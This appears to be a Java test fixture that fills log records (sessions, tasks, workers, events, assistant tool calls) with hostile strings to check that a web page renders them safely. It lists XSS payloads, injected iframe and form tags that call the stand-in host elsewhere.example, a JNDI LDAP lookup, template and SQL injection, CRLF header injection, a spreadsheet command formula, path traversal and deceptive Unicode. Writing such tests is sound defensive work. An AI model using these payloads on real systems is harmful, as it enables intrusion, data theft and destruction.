package dev.tac8.page;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.tac8.Home;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

/** Texts by which a page could be made to do something, in each field of text of each type of record, in conversations and in lines that are none. */
final class Hostile {
    /** Where a page would ask for something if one of them had its way. */
    private static final String ELSEWHERE = "elsewhere.example";
    static final List<String> TEXTS = List.of(
            // Markup
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "</title><script>alert(1)</script>",
            "</style><style>*{display:none}</style>", "</textarea><script>alert(1)</script>", "<!--", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
            "<iframe src=\"http://" + ELSEWHERE + "/\"></iframe>", "<base href=\"http://" + ELSEWHERE + "/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=http://" + ELSEWHERE + "/\">", "<link rel=stylesheet href=\"http://" + ELSEWHERE + "/x.css\">",
            "<object data=\"http://" + ELSEWHERE + "/\"></object>", "<form action=\"http://" + ELSEWHERE + "/\"><button>Go</button></form>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<b>bold</b>", "<h1>A heading", "</td></tr></table><p>out of the table",
            // Attributes
            "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "` onclick=`alert(1)`",
            "x onclick=alert(1) y", "\" style=\"position:fixed;inset:0", "\" hx-get=\"http://" + ELSEWHERE + "/\" hx-trigger=\"load",
            "<div hx-get=\"/archive\" hx-trigger=\"load\">htmx</div>", "<div hx-on::load=\"alert(1)\" data-hx-get=\"//" + ELSEWHERE + "\">htmx</div>",
            // Addresses
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "//" + ELSEWHERE + "/", "http://" + ELSEWHERE + "/\"onclick=\"alert(1)",
            "../../../../etc/passwd", "?id=a&b=c#d", "%3Cscript%3Ealert(1)%3C/script%3E", "%00%0d%0a", "a+b%20c;d/e\\f",
            // Style sheets, and what templates take for their own
            "}body{background:url(http://" + ELSEWHERE + "/)}", "red;background:url(//" + ELSEWHERE + ")", "{{7*7}}", "${7*7}", "#{7*7}", "*{7*7}", "[[${7*7}]]", "<%= 7*7 %>", "{% raw %}",
            "$simple{body}", "${bean:health}", "<th:block th:utext=\"${7*7}\"/>", "${jndi:ldap://" + ELSEWHERE + "/a}",
            // Entities, and lines of other protocols
            "&lt;script&gt;", "&#x3c;script&#x3e;alert(1)", "&quot; onclick=alert(1)", "&amp;amp;", "data: x\n\nevent: y\ndata: <script>alert(1)</script>\n\n", "a\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
            // Words that programs take for something else
            "null", "undefined", "NaN", "__proto__", "constructor", "[object Object]", "'; DROP TABLE tasks; --", "=cmd|' /C calc'!A0",
            // What is not seen, or not as it is
            "\u202Egpj.exe\u202C", "\u2066\u2067left\u2069", "zero\u200bwidth\u200d\ufeff", "\u00ad\u00adsoft", "\u2028line\u2029", "   ", "e\u0301" + "\u0300".repeat(300), "👩\u200d👩\u200d👧 ❤\ufe0f",
            "\u0000nul", "\u0001\u0007\b\u001b[31mred", "\u007f\u0085\u009b31m", "\uffff\ufffe", "x".repeat(5_000), "漢字".repeat(400), "مرحبا שלום");
    private static final ObjectMapper JSON = new ObjectMapper();

    private final List<String> lines = new ArrayList<>();
    private final Instant now;

    private Hostile(Instant now) {
        this.now = now;
        for (int i = 0; i < TEXTS.size(); i++) {
            add(i, TEXTS.get(i));
        }
    }

    /** The id of the session, the task and the worker whose records are full of a text. */
    static String id(int i) {
        return key(i + TEXTS.get(i));
    }

    /** As much of a text as an id holds, as it is stored. */
    private static String key(String text) {
        String stored = text.replace('\0', '␀');
        int end = stored.length();
        while (stored.substring(0, end).getBytes(StandardCharsets.UTF_8).length > 800) {
            end = stored.offsetByCodePoints(end, -1);
        }
        return stored.substring(0, end);
    }

    /** Drops them all, as of this moment. */
    static void drop(Home home, Instant now) throws IOException {
        Path logs = Files.createDirectories(home.path("logs"));
        // Their worker says where it lies by a name that is a text, too, and is not found; one is.
        Files.write(logs.resolve("hostile.jsonl"), IntStream.range(0, TEXTS.size()).mapToObj(i -> said(i, now)).toList());
        home.drop("hostile.jsonl", new Hostile(now).lines);
        home.drop("hostile-bad.jsonl", TEXTS.stream().map(text -> json(Map.of("type", text, "timestamp", now.toString(), text, text))).toList());
        home.drop("hostile <img src=x onerror=alert(1)>.jsonl", "no JSON <script>alert(1)</script>");
    }

    private void add(int i, String text) {
        String id = id(i);
        Map<String, Object> details = Map.of(text, List.of(text, Map.of(text, text)), "repo", text);
        record("session", "session_id", id, "status", "started", "git_commit", text, "config", details);
        event(id, "trigger", text, id, "GitHub issue detected: " + text, details);
        record("task", "session_id", id, "task_id", id, "status", "detected", "title", text, "issue_number", i);
        record("task", "session_id", id, "task_id", id, "status", "active");
        event(id, "decision", text, id, text, details);
        event(id, "error", text, id, text, details);
        event(id, key(text), text, key(text), text, details);
        record("worker", "session_id", id, "task_id", id, "worker_id", id, "status", "spawned", "log_file", i == 0 ? "hostile.jsonl" : text);
        record("api_call", "session_id", id, "task_id", id, "worker_id", id, "model", text, "estimated_cost_usd", 0.25, "price_version", text, "usage",
                Map.of("agent", text, "agent_session", text, "speed", text, text, text));
        record("worker", "session_id", id, "task_id", id, "worker_id", id, "status", "failed", "exit_code", -i);
        record("task", "session_id", id, "task_id", id, "status", i % 2 == 0 ? "failed" : "completed", "pr_number", i);
    }

    private void event(String id, String type, String contextType, String context, String message, Object details) {
        record("event", "session_id", id, "event_type", type, "severity", type.equals("error") ? "error" : "info", "context_type", contextType, "context_id", context,
                "message", message, "details", details);
    }

    private void record(String type, Object... fields) {
        Map<String, Object> record = new LinkedHashMap<>(Map.of("type", type));
        record.put("timestamp", now.minusSeconds(600).plusMillis(lines.size()).toString());
        for (int i = 0; i < fields.length; i += 2) {
            record.put((String) fields[i], fields[i + 1]);
        }
        lines.add(json(record));
    }

    private static String said(int i, Instant now) {
        String text = TEXTS.get(i);
        return json(Map.of("type", "assistant", "sessionId", text, "uuid", "u" + i, "isSidechain", i % 3 == 0, "agentId", text, "timestamp", now.minusSeconds(500).plusSeconds(i).toString(),
                "message", Map.of("id", "m" + i, "role", "assistant", "model", text, "content", List.of(Map.of("type", "text", "text", text),
                        Map.of("type", "thinking", "thinking", text), Map.of("type", "tool_use", "id", "t" + i, "name", text, "input", Map.of("command", text)),
                        Map.of("type", text)), "usage", Map.of("input_tokens", 1, "output_tokens", 1))));
    }

    private static String json(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
